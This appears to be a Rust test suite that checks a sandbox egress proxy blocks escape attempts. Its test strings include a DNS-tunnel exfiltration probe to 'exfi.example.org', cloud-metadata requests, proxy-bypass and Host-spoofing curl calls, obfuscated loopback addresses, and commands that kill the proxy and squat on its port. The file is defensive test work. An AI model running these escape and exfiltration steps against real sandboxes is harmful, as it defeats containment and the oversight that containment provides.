//! By every other way, and by this one to anywhere else: nothing.

use super::*;

/// Everything that is no request to the proxy.
const PAST_IT: &str = r#"env -i python3 - <<'END'
import socket, itertools, struct
reached = []
for host in ["1.1.1.1", "8.8.8.8", "169.254.169.254", "172.17.0.1", "2606:4700:4700::1111"]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    for port, kind in itertools.product([22, 53, 80, 443, 853], [socket.SOCK_STREAM, socket.SOCK_DGRAM]):
        s = socket.socket(family, kind); s.settimeout(0.2)
        try: s.connect((host, port)); s.send(b"x"); reached.append((host, port, kind))
        except OSError: pass
# A TXT question, to the resolver that the sandbox names and to a public one.
question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\x04exfi\x07example\x03org\x00" + struct.pack(">HH", 16, 1)
for server in ["127.0.0.1", "127.0.0.11", "8.8.8.8"]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
    try: s.sendto(question, (server, 53)); reached.append((server, s.recv(512)))
    except OSError: pass
for name in ["example.org", "localhost.localdomain"]:
    try: reached.append((name, socket.getaddrinfo(name, 80)))
    except OSError: pass
for protocol in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 3)]:
    try: socket.socket(*protocol); reached.append(protocol)
    except OSError: pass
print(reached or "nothing")
END"#;

#[tokio::test]
async fn evil_t15_t17_tries_every_other_way() {
    for provider in runtimes().await {
        every_other_way_is_closed(&provider).await;
    }
}

async fn every_other_way_is_closed(provider: &Provider) {
    let port = server("the world").await;
    let allowed = format!("127.0.0.1:{port}");
    let room =
        Room::open(provider, &[format!("{allowed} private"), "mirror.example.org:443".to_owned()]).await;
    // The control: what is allowed is reached.
    let reached = room.sh(&format!("curl -sS --noproxy '' http://{allowed}/")).await;
    assert_eq!(reached.out, "the world", "{}", reached.err);

    assert_eq!(room.sh(PAST_IT).await.out, "nothing\n");
    for (curl, refusal) in [
        // Past the proxy.
        ("--noproxy '*' https://mirror.example.org/".to_owned(), "resolve"),
        (format!("--noproxy '*' http://{allowed}/"), "connect"),
        // Another host, port, spelling.
        ("https://elsewhere.example.org/".to_owned(), "403"),
        ("https://mirror.example.org:8443/".to_owned(), "403"),
        ("http://mirror.example.org/".to_owned(), "403"),
        ("https://1.1.1.1/".to_owned(), "403"),
        ("http://169.254.169.254/latest/meta-data/".to_owned(), "403"),
        (format!("--noproxy '' http://localhost:{port}/"), "403"),
        // What is not TLS in a tunnel, a request in another's name, a greeting in another's name.
        (format!("--noproxy '' -p http://{allowed}/"), "curl: ("),
        (format!("--noproxy '' -H 'Host: elsewhere.example.org' http://{allowed}/"), "421"),
        ("-k -H 'Host: elsewhere.example.org' https://mirror.example.org/".to_owned(), "421"),
        (
            "-k --connect-to elsewhere.example.org:443:mirror.example.org:443 https://elsewhere.example.org/"
                .to_owned(),
            "421",
        ),
        // Ways to send.
        (format!("--noproxy '' -X PUT -d secret http://{allowed}/"), "403"),
        (format!("--noproxy '' -X DELETE http://{allowed}/"), "403"),
        (format!("--noproxy '' -d secret http://{allowed}/"), "403"),
        (format!("--noproxy '' -X GET -d secret http://{allowed}/"), "413"),
    ] {
        let ran = room.sh(&format!("curl -sS --fail --max-time 120 {curl}")).await;
        assert!(ran.code != 0 && ran.err.to_lowercase().contains(refusal), "{curl}: {} {}", ran.out, ran.err);
    }
    // More connections than are carried at once wait, and are no end of anything.
    let many = "import socket\nheld = [socket.create_connection(('127.0.0.1', 13128)) for _ in range(300)]\nprint(len(held))";
    assert_eq!(room.sh(&format!("python3 -c \"{many}\"")).await.out, "300\n");
    assert_eq!(room.sh(&format!("curl -sS --noproxy '' http://{allowed}/")).await.out, "the world");
    // Spellings of the allowed address that curl would straighten out before it asks.
    for spelling in ["2130706433", "0177.0.0.1", "0x7f.1", "127.1", "[::ffff:127.0.0.1]", "127.0.0.1.", "0"] {
        let ask = format!(
            "exec 3<>/dev/tcp/127.0.0.1/13128; printf 'GET http://{spelling}:{port}/ HTTP/1.1\\r\\nHost: {spelling}:{port}\\r\\n\\r\\n' >&3; \
             head -1 <&3"
        );
        let ran = room.sh(&format!("bash -c \"{ask}\"")).await;
        assert!(ran.out.starts_with("HTTP/1.1 40"), "{spelling}: {} {}", ran.out, ran.err);
    }
    room.sandbox.stop().await.unwrap();
}

#[tokio::test]
async fn evil_t38_takes_another_session_s_way() {
    for provider in runtimes().await {
        a_stream_is_one_sandboxs_alone(&provider).await;
    }
}

async fn a_stream_is_one_sandboxs_alone(provider: &Provider) {
    let port = server("of a").await;
    let other = server("of b").await;
    let a = Room::open(provider, &[format!("127.0.0.1:{port} private")]).await;
    let b = Room::open(provider, &[format!("127.0.0.1:{other} private")]).await;
    let ask = |port: u16| format!("curl -sS --noproxy '' http://127.0.0.1:{port}/");
    assert_eq!((a.sh(&ask(port)).await.out.as_str(), b.sh(&ask(other)).await.out.as_str()), ("of a", "of b"));
    assert!(a.sh(&ask(other)).await.out.contains("not on the allow-list"));
    assert!(b.sh(&ask(port)).await.out.contains("not on the allow-list"));
    // What each trusts is its own alone.
    let trusted = "cat $SSL_CERT_FILE";
    assert_eq!(a.sh(trusted).await.out.trim(), a.way.certificate().trim());
    assert_ne!(a.way.certificate(), b.way.certificate());
    // A's end is not B's.
    drop(a.attached);
    a.sandbox.stop().await.unwrap();
    assert_eq!(b.sh(&ask(other)).await.out, "of b");
    b.sandbox.stop().await.unwrap();
}

/// Kills what carries the stream, sits down in its place, or beside it.
#[tokio::test]
async fn evil_takes_the_stream_and_ends_the_round() {
    let find = "for p in /proc/[0-9]*; do if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q 'toolbox egres[s] --cert'; then echo $p; fi; done";
    let kill = format!("for p in $({find}); do kill -9 ${{p#/proc/}}; done");
    let squat = "python3 -c 'import socket, time; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); \
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind((\"127.0.0.1\", 13128)); s.listen(); print(\"mine\"); time.sleep(1)'";
    for (attack, squats, ends) in [
        (kill.clone(), false, true),
        // Its own carrier in place of ours, and its own proxy.
        (
            format!(
                "{kill}; timeout 3 /opt/fixpoint/fixpoint toolbox eg''ress --certificate x < /dev/null; true"
            ),
            false,
            true,
        ),
        // Its place is free once it is really gone.
        (format!("{kill}; for i in $(seq 300); do {squat} && break; sleep 0.1; done"), true, true),
        // Beside it: the port is taken, and a second one's streams lead nowhere.
        (
            "timeout 3 /opt/fixpoint/fixpoint toolbox egress --certificate x < /dev/null; true".to_owned(),
            false,
            false,
        ),
        (format!("{squat}; true"), false, false),
    ] {
        for provider in runtimes().await {
            let mut room = Room::open(&provider, &["mirror.example.org:443"]).await;
            let ran = room.sh(&attack).await;
            assert_eq!(
                ran.out.contains("mine"),
                squats,
                "{}: {attack}: {}",
                room.sandbox.describe(),
                ran.err
            );
            // What comes to its end may take a while to; what does not is looked at for some time.
            let patience = Duration::from_secs(if ends { 120 } else { 3 });
            let broken = tokio::time::timeout(patience, room.attached.broken()).await;
            assert_eq!(broken.is_ok(), ends, "{}: {attack}", room.sandbox.describe());
            room.sandbox.stop().await.unwrap();
        }
    }
}

/// Says the same to everybody.
pub(super) async fn server(words: &'static str) -> u16 {
    use tokio::io::AsyncReadExt;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let _ = stream.read(&mut [0; 8192]).await;
                let length = words.len();
                let answer = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{words}"
                );
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    port
}
